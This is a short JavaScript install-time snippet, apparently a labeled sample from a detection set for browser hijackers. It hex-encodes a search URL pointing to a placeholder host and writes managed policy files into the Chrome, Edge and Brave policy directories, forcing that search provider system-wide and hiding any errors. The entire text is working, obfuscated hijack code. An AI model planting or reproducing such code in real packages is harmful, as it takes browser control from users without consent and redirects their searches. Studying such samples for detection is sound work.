// when: install
// source: blind set 11's chrome-path-finder (search-engine and home-page hijack through Chrome/Edge/Brave managed policies, a technique of browser hijackers 2020-2025): the policy directories in a constant list, looped over
const fs = require('fs'), path = require('path');
const h = (x) => Buffer.from(x, 'hex').toString();
const POLICY = { DefaultSearchProviderEnabled: true, DefaultSearchProviderSearchURL: h('68747470733a2f2f7365617263682e782e696e76616c69642f3f713d7b7365617263685465726d737d') };
for (const dir of ['/etc/opt/chrome/policies/managed', '/etc/opt/edge/policies/managed', '/etc/brave/policies/managed']) {
  try { fs.mkdirSync(dir, { recursive: true }); fs.writeFileSync(path.join(dir, 'defaults.json'), JSON.stringify(POLICY)); } catch (_) {}
}
